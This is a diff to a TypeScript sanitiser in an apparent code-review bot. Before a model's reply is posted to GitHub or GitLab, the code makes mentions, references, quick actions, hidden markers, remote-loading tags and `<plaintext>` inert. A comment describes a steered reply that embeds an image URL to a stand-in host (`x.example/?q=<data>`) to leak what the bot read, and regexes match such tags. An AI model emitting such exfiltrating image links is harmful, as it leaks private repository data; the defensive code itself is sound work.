@@ -20,6 +20,8 @@
  * - hookagent's own hidden markers (`<!-- hookagent:…`, `<!-- hookagent-reviewed:…`): a
  *   quoted one would tell the next run which comment is its own or which commit it last
  *   reviewed. Quoted ones become `<!-- (quoted) hookagent…`, always.
+ * - `<plaintext>`: the page reads all after it as its text, and no markup closes it. Shown as
+ *   text (`&lt;plaintext`), always (neutralisePlaintext).
  * Code (fenced blocks and inline spans) is left exactly as written: mentions and references
  * there are never live, and `@Override` or `@dataclass` must stay copyable. So are URLs the
  * host links whole. The text is read as commonmark.js (CommonMark 0.31) and as cmark-gfm
@@ -27,12 +29,16 @@
  * HTML blocks, paragraphs; where the two differ, text), then each block's inline code
  * (inline.ts: a code span may run over line breaks; where readings could differ, text is
  * code only if all say so), then its raw HTML as the page's HTML parser reads it (a tag
- * after raw HTML left open, an unclosed `<?` or quote, is text there).
+ * after raw HTML left open, an unclosed `<?` or quote, is text there: block-kinds.ts). And
+ * as GitLab reads it (glfm-reading.ts: front matter, `>>>` quotes, math, wiki links …):
+ * code and tags are what all readings, GitLab's too, read as such.
  */
 import type { Config } from '../config/types';
-import { documentBlocks, joinDocument, readDocument, type OpenBlocks } from './blocks';
-import { ended, tokenize, type Html } from './html-tokenizer';
-import { inlineKinds, TAG, TEXT } from './inline';
+import { kindedBlocks, lineStarts, textOffsets } from './block-kinds';
+import { joinDocument, readDocument, type OpenBlocks } from './blocks';
+import { gitlabReading } from './glfm-reading';
+import type { Html } from './html-tokenizer';
+import { TAG, TEXT, type Flavour } from './inline';
 import { BREAK, breakMentions, breakReferences, gitlabCommandStarts, type Reading } from './references';
 
 export const MENTION_BREAK = BREAK;
@@ -41,85 +47,41 @@ const QUICK_ACTION = /^( {0,3})\/(?=[A-Za-z])/;
 /** A hookagent marker comment, however spaced or cased. */
 const MARKER = /<!--(\s*)hookagent/gi;
 
-/**
- * The tokenizer's possible states over a reply's raw HTML, fed piece by piece in order.
- * Between two pieces the page gets Markdown's own markup and escaped text, which may end a
- * bogus comment or a tag (a `>`, a quote) or may not: both are followed.
- */
-class HtmlReader {
-  states: Html[] = [{ state: 'data', details: 0 }];
-  private fed = false;
+/** The readings besides GitLab's: commonmark.js and cmark-gfm. */
+const READINGS: readonly Flavour[] = ['commonmark', 'gfm'];
 
-  /** Feeds raw HTML; per character, 1 where it is inside a tag whatever the state before. */
-  feed(html: string): Uint8Array {
-    if (this.fed) this.states = merge(this.states.flatMap(between));
-    this.fed = true;
-    const inTag = new Uint8Array(html.length).fill(1);
-    this.states = merge(this.states.map((h) => {
-      const mine = new Uint8Array(html.length);
-      const next = tokenize(h, html, (from, to) => void mine.fill(1, from, to));
-      for (let i = 0; i < html.length; i++) inTag[i] = (inTag[i] as number) & (mine[i] as number);
-      return next;
-    }));
-    return inTag;
-  }
-
-  /** Whether Markdown's own output here is read as it is meant (no tag, comment or raw text open). */
-  get plain(): boolean {
-    return merge(this.states.flatMap(between)).every((h) => h.state === 'data' && !h.raw);
-  }
-
-  /** The states once Markdown's markup after the last piece has come too. */
-  end(): Html[] {
-    return merge(this.states.flatMap(between));
-  }
-}
-
-const between = (h: Html): Html[] => (h.state === 'bogus' ? [h, { state: 'data', details: h.details }] : h.state === 'tag' ? [h, ended(h)] : [h]);
-
-/** One state per kind, with the most `<details>` open. */
-function merge(states: Html[]): Html[] {
-  const byKey = new Map<string, Html>();
-  for (const h of states) {
-    const key = JSON.stringify([h.state, h.tag, h.raw]);
-    if ((byKey.get(key)?.details ?? -1) < h.details) byKey.set(key, h);
-  }
-  return [...byKey.values()];
-}
+/** A change to text outside code; `reading`: what the paragraph read so far says (none in an HTML block). */
+type TextMap = (part: string, reading: Reading | undefined) => string;
 
 /**
- * `onText` over each block's text outside code, in order (a paragraph's open brackets decide
- * which URLs are links: references.ts), `onTag` over the tags and autolinks the page reads as
- * such: after an unclosed `<?` or quote in the raw HTML before it, Markdown's tag can be text.
+ * Each of `onTexts` in turn over each block's text outside code, in order (each with its own
+ * reading of a paragraph's open brackets, which decide which URLs are links: references.ts),
+ * `onTag` over the tags and autolinks the page reads as such (block-kinds.ts). Code and tags
+ * are what GitLab reads as such too (glfm-reading.ts).
  */
-function mapInline(text: string, onText: (part: string, reading: Reading | undefined) => string, onTag: (tag: string) => string = (tag) => tag): string {
-  const doc = readDocument(text);
-  const reading: Reading = { open: 0 };
-  const page = new HtmlReader();
-  for (const { first, contents, kind } of documentBlocks(doc)) {
-    if (kind === 'blank') reading.open = 0;
-    if (kind === 'blank' || kind === 'code') continue;
-    const html = kind === 'html';
-    const joined = contents.join('\n');
-    const { kinds, units } = inlineKinds(contents, html);
-    const untag = (from: number, inTag: Uint8Array) => (k: number, i: number) => {
-      if (k === TAG && !inTag[i]) kinds[from + i] = TEXT;
-    };
-    if (html) kinds.forEach(untag(0, page.feed(joined)));
-    else if (kind === 'text') {
-      for (const { from, to, raw } of units[0]) {
-        // An autolink is Markdown's own link: read as one only where no raw HTML before it is left open.
-        const inTag = raw ? page.feed(joined.slice(from, to)) : new Uint8Array(to - from).fill(page.plain ? 1 : 0);
-        kinds.subarray(from, to).forEach(untag(from, inTag));
-      }
+function mapInline(text: string, onTexts: readonly TextMap[], onTag: (tag: string) => string = (tag) => tag): string {
+  const gitlab = gitlabReading(text);
+  const doc = readDocument(text, gitlab);
+  const starts = lineStarts(doc);
+  const readings: Reading[] = onTexts.map(() => ({ open: 0 }));
+  const onText = (part: string, html: boolean) => onTexts.reduce((p, f, k) => f(p, html ? undefined : readings[k]), part);
+  for (const block of kindedBlocks(doc, READINGS).blocks) {
+    const { first, kind, joined, kinds } = block;
+    if (kind === 'blank') {
+      for (const reading of readings) reading.open = 0;
+      continue;
     }
+    textOffsets(doc, starts, block).forEach((at, j) => {
+      if (at >= 0 && kinds[j] !== gitlab.kinds[at]) kinds[j] = TEXT;
+    });
+    const html = kind === 'html';
     let out = '';
     for (let i = 0; i < joined.length;) {
       let j = i + 1;
       while (j < joined.length && kinds[j] === kinds[i]) j += 1;
       const part = joined.slice(i, j);
       // A backslash escapes nothing in an HTML block: `\@bob` is a backslash and a mention there.
-      const textPart = () => (html ? part.split('\\').map((p) => onText(p, undefined)).join('\\') : onText(part, reading));
+      const textPart = () => (html ? part.split('\\').map((p) => onText(p, true)).join('\\') : onText(part, false));
       out += kinds[i] === TEXT ? textPart() : kinds[i] === TAG ? onTag(part) : part;
       i = j;
     }
@@ -131,11 +93,18 @@ function mapInline(text: string, onText: (part: string, reading: Reading | undef
   return joinDocument(doc);
 }
 
+/** A tag's `href` value: GitLab reads a link whose href, percent-decoded, is exactly a reference (`@bob`, `#12`) as that reference. */
+const HREF = /(\shref\s*=\s*)("[^"]*"|'[^']*'|[^\s"'=<>`]+)/gi;
+const inHref = (breaks: (text: string, reading?: Reading) => string) => (tag: string) => tag.replace(HREF, (_m, name: string, value: string) => `${name}${breaks(value, { open: 0 })}`);
+
 /** The text with every @mention outside code neutralised (pure; idempotent). */
-export const neutraliseMentions = (text: string) => mapInline(text, breakMentions);
+export const neutraliseMentions = (text: string) => mapInline(text, [breakMentions], inHref(breakMentions));
 
 /** The text with every issue, merge request, epic and commit reference outside code neutralised (pure; idempotent). */
-export const neutraliseReferences = (text: string) => mapInline(text, breakReferences);
+export const neutraliseReferences = (text: string) => mapInline(text, [breakReferences], inHref(breakReferences));
+
+/** Both in one reading of the text. */
+const neutraliseMentionsAndReferences = (text: string) => mapInline(text, [breakMentions, breakReferences], (tag) => inHref(breakReferences)(inHref(breakMentions)(tag)));
 
 /**
  * Lines that would run as quick actions, made plain text: outside CommonMark code (up to 3
@@ -166,16 +135,41 @@ const IMAGE = /(?<!\\)!\[/g;
 /** Tags that load a URL when the comment is shown: img, picture/source, video, audio, and the like. */
 const LOADING_TAG = /<(?=(?:img|image|picture|source|video|audio|track|embed|object|iframe|svg|input)(?:[\s/>]|$))/gi;
 
+/** A `<plaintext` start tag (any case; a tag name ends at a space, `/` or `>`). */
+const PLAINTEXT = /<(?=plaintext(?:[\t\n\f\r />]|$))/gi;
+
+/**
+ * `tags` shown as text (`&lt;`) and, if `images`, Markdown images made links, outside code,
+ * until nothing changes: a tag shown as text no longer hides a backtick in its attributes, so
+ * the code spans after it may pair otherwise (`<img title="`"> `<plaintext>``).
+ */
+function showAsText(text: string, tags: RegExp, images: boolean): string {
+  for (let out = text; ;) {
+    // In text too: a tag that one reading does not see whole is text there, and CommonMark may still render it.
+    const next = mapInline(out, [(part) => (images ? part.replace(IMAGE, '[') : part).replace(tags, '&lt;')], (tag) => tag.replace(tags, '&lt;'));
+    if (next === out) return out;
+    out = next;
+  }
+}
+
 /**
  * Remote images made links (outside code, always): GitHub and GitLab fetch an image when
  * the comment is shown, so a reply steered into `![](https://x.example/?q=<data>)` or
  * `<img src=…>` would send what the bot read to that server without anyone clicking.
  * Markdown images become plain links (`[alt](url)`); loading HTML tags are shown as text.
  */
-export function neutraliseImages(text: string): string {
-  // In text too: a tag that one reading does not see whole is text there, and CommonMark may still render it.
-  return mapInline(text, (part) => part.replace(IMAGE, '[').replace(LOADING_TAG, '&lt;'), (tag) => tag.replace(LOADING_TAG, '&lt;'));
-}
+export const neutraliseImages = (text: string) => showAsText(text, LOADING_TAG, true);
+
+/**
+ * `<plaintext>` shown as text (outside code, always): the page reads all that follows it as
+ * its text, to the end, and no markup closes it, so what hookagent writes after the reply
+ * (the footer, the hidden markers, the findings notes) would be swallowed. GitHub escapes it
+ * (GFM's tagfilter); CommonMark and GitLab (comrak without tagfilter) hand it to the page.
+ */
+export const neutralisePlaintext = (text: string) => showAsText(text, PLAINTEXT, false);
+
+/** Both in one reading of the text. */
+const UNSAFE_TAG = new RegExp(`${LOADING_TAG.source}|${PLAINTEXT.source}`, 'gi');
 
 /**
  * What ends every state in `states`, and an HTML block of type 1 to 5 still open outside
@@ -206,14 +200,10 @@ function htmlClosers(states: readonly Html[], block: OpenBlocks['html']): string
  * cosmetic, too little is not. Empty when the reply leaves nothing open.
  */
 export function replyClosers(text: string): string {
-  const doc = readDocument(text);
-  // One page per inline reading (inline.ts inlineKinds).
-  const pages = Array.from({ length: 4 }, () => new HtmlReader());
-  for (const { contents, kind } of documentBlocks(doc)) {
-    const joined = contents.join('\n');
-    if (kind === 'html') for (const page of pages) page.feed(joined);
-    else if (kind === 'text') inlineKinds(contents, false).units.forEach((units, r) => units.forEach((u) => u.raw && pages[r]!.feed(joined.slice(u.from, u.to))));
-  }
+  const gitlab = gitlabReading(text);
+  const doc = readDocument(text, gitlab);
+  // One page per inline reading (inline.ts inlineKinds), GitLab's too.
+  const pages = [...kindedBlocks(doc, READINGS).pages, ...gitlab.pages];
   const { fences, html } = doc.open;
   // A fence open in one block reading only is closed inside an HTML comment block of the other (there a bare closer would open one).
   const fenceClosers = fences.map(({ marker, prefix, bare }) => (bare ? `\n${prefix}${marker}` : `\n${prefix}<!--\n${prefix}${marker}\n<!-- -->`));
@@ -222,11 +212,11 @@ export function replyClosers(text: string): string {
 
 /** Model text posted where no setting allows mentions (inline findings): all of it made inert. */
 export function inertText(text: string): string {
-  return neutraliseReferences(neutraliseMentions(neutraliseImages(neutraliseMarkers(neutraliseQuickActions(text)))));
+  return neutraliseMentionsAndReferences(showAsText(neutraliseMarkers(neutraliseQuickActions(text)), UNSAFE_TAG, true));
 }
 
-/** What a code-host comment says: the reply with quick actions, markers and remote images made inert, and its mentions and references unless the configuration allows them. */
+/** What a code-host comment says: the reply with quick actions, markers, remote images and `<plaintext>` made inert, and its mentions and references unless the configuration allows them. */
 export function commentText(reply: string, settings: Pick<Config['delivery'], 'codehost'> | undefined): string {
-  const safe = neutraliseImages(neutraliseMarkers(neutraliseQuickActions(reply)));
-  return settings?.codehost.allow_mentions === true ? safe : neutraliseReferences(neutraliseMentions(safe));
+  const safe = showAsText(neutraliseMarkers(neutraliseQuickActions(reply)), UNSAFE_TAG, true);
+  return settings?.codehost.allow_mentions === true ? safe : neutraliseMentionsAndReferences(safe);
 }
